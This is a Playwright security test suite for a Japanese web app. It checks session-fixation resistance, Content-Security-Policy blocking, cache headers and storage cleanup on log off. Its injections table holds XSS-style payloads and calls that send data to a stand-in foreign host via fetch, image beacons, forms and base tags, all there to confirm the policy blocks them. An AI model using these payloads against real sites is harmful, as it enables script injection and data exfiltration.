import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, expect, inject } from 'vitest';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { appointUser, type Company, openCompany } from './house/company.ts';
import { type ForeignSite, openForeignSite } from './house/foreign-site.ts';
import {
  button,
  enterUserLogon,
  fillInLogon,
  heading,
  logOnAsAdministrator,
} from './house/person.ts';
import { test } from './house/test.ts';

let foreign: ForeignSite;
let company: Company;

beforeAll(async () => {
  foreign = await openForeignSite();
  company = await openCompany(inject('house'));
  await appointUser(inject('house'), company, 'sato01', '佐藤 健一');
});
afterAll(() => foreign.stop());

const house = () => inject('house').url;
/** Where a browser's tools take a `Secure` cookie for the same host. */
const secureHouse = () => house().replace('http:', 'https:');
const cookieName = '__Host-monban-session';

async function sessionCookie(context: BrowserContext): Promise<string> {
  const cookies = await context.cookies();
  return cookies.find(({ name }) => name === cookieName)?.value ?? '';
}

/** As somebody who has got hold of that value: who they are to the server. */
async function whoIs(value: string): Promise<string> {
  const response = await fetch(`${house()}/graphql`, {
    method: 'POST',
    headers: { 'content-type': 'application/json', cookie: `${cookieName}=${value}` },
    body: JSON.stringify({ query: '{ viewer { __typename } }' }),
  });
  const { data } = (await response.json()) as {
    readonly data: { readonly viewer: { readonly __typename: string } | null };
  };
  return data.viewer?.__typename ?? 'nobody';
}

test('a session value from before the logon is worthless after it, whether it was made up or is the attacker’s own; so is each that a logon or a log off has ended (A21)', async ({
  open,
}) => {
  const attacker = await open();
  await enterUserLogon(attacker, company.contractId, 'sato01');
  await heading(attacker, 'ホーム').waitFor();
  const own = await sessionCookie(attacker.context());
  const planted = [own, randomBytes(32).toString('base64url'), `${own.slice(0, -2)}AA`, 'x'];

  const used: string[] = [];
  const worth: string[] = [];
  for (const value of planted) {
    const victim = await open();
    await fillInLogon(victim, company);
    // Behind its back: a page that finds a live session when it loads asks for no logon.
    await victim
      .context()
      .addCookies([
        { name: cookieName, value, url: secureHouse(), secure: true, sameSite: 'Strict' },
      ]);
    const logon = victim.waitForRequest(
      (request) => request.postData()?.includes('logOnAdministrator') === true,
    );
    await button(victim, 'ログオン').click();
    expect((await (await logon).allHeaders())['cookie']).toBe(`${cookieName}=${value}`);
    await heading(victim, 'ホーム').waitFor();
    const given = await sessionCookie(victim.context());
    used.push(given);
    worth.push(await whoIs(value));
    expect(await whoIs(given)).toBe('Administrator');
    await button(victim, 'ログオフ').click();
    await victim.getByText('ログオフしました').waitFor();
  }
  console.log(`A21 planted before the logon: afterwards they open ${worth.join(', ')}`);
  // The attacker's own opens what it opened before: their own session.
  expect(worth).toEqual(['User', 'nobody', 'nobody', 'nobody']);
  expect(new Set([...used, ...planted]).size).toBe(used.length + planted.length);
  for (const value of used) expect(await whoIs(value)).toBe('nobody');
});

/** What somebody would do who got a piece of HTML into a page of ours, and which directive is to stop it. */
const injections: Readonly<
  Record<string, readonly [directive: string, act: (theirs: string) => void]>
> = {
  'an inline script': [
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.textContent = 'ran.push("inline")';
      document.head.append(script);
    },
  ],
  'an event handler': [
    'script-src-attr',
    () =>
      document.body.insertAdjacentHTML(
        'beforeend',
        '<img src="data:," onerror="ran.push(1)" alt="">',
      ),
  ],
  'a javascript: link': [
    'script-src-elem',
    () => {
      const link = document.createElement('a');
      link.href = 'javascript:ran.push("link")';
      document.body.append(link);
      link.click();
    },
  ],
  'a script in its address': [
    'script-src-elem',
    () => {
      const script = document.createElement('script');
      script.src = 'data:text/javascript,ran.push("data")';
      document.head.append(script);
    },
  ],
  'a script from elsewhere': [
    'script-src-elem',
    (theirs) => {
      const script = document.createElement('script');
      script.src = `${theirs}/x.js`;
      document.head.append(script);
    },
  ],
  'text that is run': [
    'script-src',
    // oxlint-disable-next-line typescript/no-implied-eval -- it is what the page must not do
    () => void setTimeout('ran.push("text")'),
  ],
  'a frame with a script': [
    'frame-src',
    () => {
      const frame = document.createElement('iframe');
      frame.src = 'data:text/html,<script>parent.ran.push("frame")</script>';
      document.body.append(frame);
    },
  ],
  'an object': [
    'object-src',
    () =>
      document.body.insertAdjacentHTML('beforeend', '<object data="data:text/html,x"></object>'),
  ],
  'what it has seen, told elsewhere': [
    'connect-src',
    (theirs) => void fetch(`${theirs}/?seen`).catch(() => undefined),
  ],
  'a picture from elsewhere': ['img-src', (theirs) => void (new Image().src = `${theirs}/?seen`)],
  'a form to elsewhere': [
    'form-action',
    (theirs) => {
      document.body.insertAdjacentHTML(
        'beforeend',
        `<form id="taken" action="${theirs}" target="_blank"></form>`,
      );
      document.querySelector<HTMLFormElement>('#taken')?.submit();
    },
  ],
  'another base': [
    'base-uri',
    (theirs) => document.head.insertAdjacentHTML('beforeend', `<base href="${theirs}/">`),
  ],
};

interface Trapped {
  readonly ran: readonly string[];
  readonly stopped: readonly string[];
}

/** Tries all of them on the page as it stands. */
async function injectAll(page: Page): Promise<Trapped> {
  const trapped = () =>
    page.evaluate(() => {
      const { ran, stopped } = globalThis as unknown as Trapped;
      return { ran, stopped };
    });
  const expected = Object.values(injections).map(([directive]) => directive);
  for (const [, act] of Object.values(injections)) await page.evaluate(act, foreign.near);
  await expect.poll(async () => (await trapped()).stopped.toSorted()).toEqual(expected.toSorted());
  return trapped();
}

async function trap(browser: Browser): Promise<BrowserContext> {
  const context = await browser.newContext({ baseURL: house(), locale: 'ja-JP' });
  await context.addInitScript(() => {
    const trapped = { ran: [], stopped: [] as string[] };
    Object.assign(globalThis, trapped);
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
      trapped.stopped.push(effectiveDirective);
    });
  });
  return context;
}

test('what somebody got into a page runs nothing, tells nothing and leads nowhere: the policy stops each kind, on every page (A21)', async ({
  browser,
}) => {
  const context = await trap(browser);
  const page = await context.newPage();
  let stopped = 0;
  const visit = async (path: string) => {
    await page.goto(path);
    await page.locator('#root > *').first().waitFor();
    const trapped = await injectAll(page);
    expect([path, trapped.ran]).toEqual([path, []]);
    stopped += trapped.stopped.length;
  };
  const strangers = ['/', '/user', '/first'];
  for (const path of strangers) await visit(path);
  await logOnAsAdministrator(page, company);
  const people = ['/', '/users', '/users/sato01', '/history', '/pins', '/add-user'];
  for (const path of people) await visit(path);
  console.log(
    `A21 injected: ${stopped} of ${stopped} stopped on ${strangers.length + people.length} pages`,
  );
  await context.close();
});

test('nothing but files named by their hash is kept by the browser, and nothing of a page stands in its HTML: no script, no style, no handler (A21)', async ({
  open,
}) => {
  const page = await open();
  const kept: string[] = [];
  const html: string[] = [];
  let answers = 0;
  page.context().on('response', (response) => {
    const { pathname } = new URL(response.url());
    if (!response.url().startsWith(house()) || /^\/assets\/.+-[\w-]{8}\.\w+$/.test(pathname))
      return;
    answers += 1;
    if (response.headers()['cache-control'] !== 'no-store') kept.push(pathname);
  });
  await logOnAsAdministrator(page, company);
  for (const path of ['/', '/users', '/users/sato01', '/history', '/nowhere', '/graphql']) {
    const loaded = await page.goto(path);
    html.push((await loaded?.text()) ?? '');
    await page.locator('body *').first().waitFor();
  }
  console.log(`A21 ${kept.length} of ${answers} answers may be kept`);
  expect(kept).toEqual([]);
  expect(answers).toBeGreaterThan(5);
  for (const text of html) {
    expect(text).toContain('<title>');
    expect(text).not.toMatch(/<style|\sstyle=|\son\w+=|javascript:/i);
    expect(text.match(/<script(?![^>]*\ssrc=)/g)).toBeNull();
  }
});

test('log off leaves nothing in the browser but the choice of language and appearance, whatever had got into it (A21)', async ({
  open,
}) => {
  const page = await open();
  await logOnAsAdministrator(page, company);
  await page.evaluate(async () => {
    localStorage.setItem('monban.language', 'ja');
    localStorage.setItem('monban.theme', 'dark');
    localStorage.setItem('planted', 'x');
    sessionStorage.setItem('planted', 'x');
    await caches.open('planted');
    await new Promise((resolve, reject) => {
      const opening = indexedDB.open('planted');
      opening.addEventListener('success', () => resolve(opening.result.close()));
      opening.addEventListener('error', reject);
    });
  });
  await button(page, 'ログオフ').click();
  await page.getByText('ログオフしました').waitFor();
  const left = await page.evaluate(async () => ({
    local: Object.fromEntries<string>(Object.entries(localStorage)),
    session: Object.fromEntries<string>(Object.entries(sessionStorage)),
    databases: (await indexedDB.databases()).map(({ name }) => name),
    caches: await caches.keys(),
  }));
  expect(left).toEqual({
    local: { 'monban.language': 'ja', 'monban.theme': 'dark' },
    session: {},
    databases: [],
    caches: [],
  });
});
